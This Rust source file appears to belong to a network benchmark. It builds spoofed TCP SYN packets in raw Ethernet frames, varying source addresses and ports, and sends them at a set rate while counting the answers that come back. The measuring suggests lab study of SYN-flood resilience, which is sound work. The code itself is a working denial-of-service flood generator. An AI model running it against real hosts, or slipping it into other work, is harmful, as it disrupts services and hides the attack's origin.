//! SYNs, as many as wanted: each from another address and port.

use std::net::Ipv4Addr;
use std::thread;
use std::time::{Duration, Instant};

use crate::plain::{CROWD, received};
use crate::sys::{BATCH, Frames, tighten_timers};

/// What to send.
#[derive(Clone, Copy)]
pub struct Flood {
    pub to: Ipv4Addr,
    pub per_second: u32,
    /// The most SYNs without an answer; then the next one waits.
    pub open: u32,
    pub time: Duration,
    /// Numbers the SYNs: those of two floods differ if their numbers do.
    pub first: u32,
}

/// A moment of a flood.
#[derive(Clone, Copy)]
pub struct Moment {
    pub at: Duration,
    pub sent: u32,
    /// Answers that reached the client.
    pub answers: u64,
}

/// Between two looks at the answers.
const LOOK: Duration = Duration::from_millis(5);

/// Answers that need longer than this after the last SYN do not count.
const PATIENCE: Duration = Duration::from_millis(300);

impl Flood {
    /// Sends from the calling thread's host, the client of a [`crate::plain::Plain`].
    pub fn run(self) -> Vec<Moment> {
        tighten_timers();
        let frames = Frames::open("eth0").expect("a packet socket");
        let mut batch: [Syn; BATCH] = [Syn::new(self.to); BATCH];
        let before = received("eth0");
        let start = Instant::now();
        let (mut moments, mut sent) = (Vec::new(), 0);
        let answers = || received("eth0") - before;
        loop {
            let at = start.elapsed();
            if moments.last().is_none_or(|last: &Moment| at >= last.at + LOOK) {
                moments.push(Moment { at, sent, answers: answers() });
            }
            if at >= self.time + PATIENCE {
                return moments;
            }
            let due = (at.min(self.time).as_secs_f64() * f64::from(self.per_second)) as u32;
            let due = if self.open < u32::MAX { due.min(answers() as u32 + self.open) } else { due };
            let count = (due.saturating_sub(sent) as usize).min(BATCH);
            if count == 0 {
                thread::sleep(Duration::from_micros(if self.open < u32::MAX { 50 } else { 200 }));
                continue;
            }
            for (n, syn) in batch.iter_mut().take(count).enumerate() {
                syn.number(self.first.wrapping_add(sent + n as u32));
            }
            // A full device loses what it cannot take, as a switch would.
            sent += frames.send(&batch[..count]).unwrap_or(count) as u32;
        }
    }
}

/// One SYN as Linux sends it, with the usual options, in an Ethernet frame.
#[derive(Clone, Copy)]
struct Syn([u8; 74]);

impl AsRef<[u8]> for Syn {
    fn as_ref(&self) -> &[u8] {
        &self.0
    }
}

impl Syn {
    fn new(to: Ipv4Addr) -> Self {
        let mut bytes = [0; 74];
        bytes[..14].copy_from_slice(&[2, 0x77, 0, 0, 0, 1, 2, 0x77, 0, 0, 0, 2, 8, 0]);
        bytes[14..34].copy_from_slice(&[0x45, 0, 0, 60, 0, 0, 0x40, 0, 64, 6, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0]);
        bytes[30..34].copy_from_slice(&to.octets());
        bytes[36..38].copy_from_slice(&crate::plain::PORT.to_be_bytes());
        bytes[46..50].copy_from_slice(&[0xa0, 2, 0xfa, 0xf0]);
        // MSS 1460, SACK permitted, timestamps, window scale 7.
        bytes[54..].copy_from_slice(&[2, 4, 5, 0xb4, 4, 2, 8, 10, 0, 1, 2, 3, 0, 0, 0, 0, 1, 3, 3, 7]);
        Syn(bytes)
    }

    fn number(&mut self, number: u32) {
        /// Ports differ first, as those of few clients do.
        const PORTS: u32 = 60_000;
        let (source, port) = (CROWD + 1 + number / PORTS % 60_000, 1024 + (number % PORTS) as u16);
        let bytes = &mut self.0;
        bytes[26..30].copy_from_slice(&source.to_be_bytes());
        bytes[34..36].copy_from_slice(&port.to_be_bytes());
        bytes[38..42].copy_from_slice(&number.wrapping_mul(0x9E37_79B1).to_be_bytes());
        bytes[24..26].fill(0);
        let sum = checksum(&bytes[14..34], 0);
        bytes[24..26].copy_from_slice(&sum.to_be_bytes());
        bytes[50..52].fill(0);
        // The pseudo-header: addresses, protocol 6, length 40.
        let pseudo =
            bytes[26..34].chunks(2).map(|pair| u32::from(u16::from_be_bytes([pair[0], pair[1]]))).sum::<u32>() + 46;
        let sum = checksum(&bytes[34..], pseudo);
        bytes[50..52].copy_from_slice(&sum.to_be_bytes());
    }
}

/// RFC 1071, of an even number of bytes.
pub fn checksum(bytes: &[u8], start: u32) -> u16 {
    let mut sum = bytes.chunks(2).map(|pair| u32::from(u16::from_be_bytes([pair[0], pair[1]]))).sum::<u32>() + start;
    while sum > 0xffff {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    !(sum as u16)
}
